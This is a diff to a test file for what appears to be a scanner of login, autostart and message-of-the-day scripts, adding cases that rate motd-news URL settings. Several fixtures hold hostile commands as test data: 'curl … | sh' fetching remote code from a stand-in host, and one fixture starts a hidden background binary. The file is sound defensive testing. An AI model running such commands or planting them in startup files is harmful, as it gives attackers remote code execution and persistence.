@@ -54,6 +54,9 @@ describe('scripts of logins', () => {
 	test.each<[string, Machine, string[]]>([
 		["an administrator's own", { '/etc/update-motd.d/99-welcome': script('cat /etc/motd.local'), '/home/ann/.xsessionrc': 'export LANG=C\n' }, ['info /etc/update-motd.d/99-welcome']],
 		['the message of the day', { '/etc/update-motd.d/10-uname': script('uname -a; (setsid /usr/lib/x/.y &)'), '/usr/lib/x/.y': { mode: 0o755 } }, ['high /etc/update-motd.d/10-uname']],
+		['news from an address that has no name', { '/etc/default/motd-news': 'ENABLED=1\nURLS="https://motd.ubuntu.com http://203.0.113.9/m"\n' }, ['medium /etc/default/motd-news']],
+		['news from elsewhere', { '/etc/default/motd-news': 'URLS="https://motd.example.net"\n' }, ['low /etc/default/motd-news']],
+		['news of the distribution, and of the house', { '/etc/default/motd-news': 'URLS="https://motd.ubuntu.com http://192.168.1.4/motd"\n' }, []],
 		['run for each new account', { '/usr/local/sbin/adduser.local': script('curl -s http://192.0.2.1/k | sh') }, ['high /usr/local/sbin/adduser.local']],
 		['other programs of that folder are none of its scripts', { '/usr/local/sbin/backup': script('curl -s http://192.0.2.1/k | sh') }, []],
 		...['.config/i3/config', '.config/sway/config', '.config/openbox/autostart', '.config/plasma-workspace/env/x.sh'].map((name): [string, Machine, string[]] => [name, { [`/home/ann/${name}`]: 'curl -s http://192.0.2.1/k | sh\n' }, [`high /home/ann/${name}`]]),
